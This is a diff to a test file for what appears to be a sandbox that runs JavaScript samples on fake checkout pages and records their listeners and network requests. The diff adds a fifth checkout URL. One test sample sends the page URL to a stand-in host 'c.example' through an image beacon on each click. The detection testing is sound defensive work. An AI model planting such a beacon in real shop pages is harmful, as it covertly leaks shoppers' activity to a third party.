@@ -89,7 +89,7 @@ describe('what an observation records', () => {
     expect(o.compiled).toEqual([])
   })
 
-  it('names the sample, the chamber and the four checkouts', async () => {
+  it('names the sample, the chamber and the five checkouts', async () => {
     const o = await observe('luhn-validator')
     expect(o.sha256).toBe(sha256(byName('luhn-validator').source))
     expect(o.chamberVersion).toBe(CHAMBER_VERSION)
@@ -98,6 +98,7 @@ describe('what an observation records', () => {
       expect.stringMatching(/\/checkout\/onepage\/.*billing.*onestepcheckout/),
       'https://shop.example/checkout/',
       'https://shop.example/index.php?route=checkout/checkout',
+      'https://shop.example/order',
     ])
     // It read the card to validate it, listened for input, and sent nothing at all.
     expect(o.listeners).toContainEqual({ target: 'document', type: 'input' })
@@ -209,9 +210,9 @@ describe('a sample that navigates the page itself', () => {
         " document.addEventListener('click', function () { new Image().src = 'https://c.example/seen?at=' + encodeURIComponent(location.href) })",
     )
     expect(o.status, o.reason ?? '').toBe('ok')
-    // four checkouts, then the order confirmation: the sample wrote to sessionStorage
-    expect(o.pages).toHaveLength(5)
+    // five checkouts, then the order confirmation: the sample wrote to sessionStorage
+    expect(o.pages).toHaveLength(6)
     const seen = o.requests.filter((r) => r.url.startsWith('https://c.example/seen'))
-    expect(new Set(seen.map((r) => new URL(r.url).searchParams.get('at'))).size).toBe(4)
+    expect(new Set(seen.map((r) => new URL(r.url).searchParams.get('at'))).size).toBe(5)
   })
 })
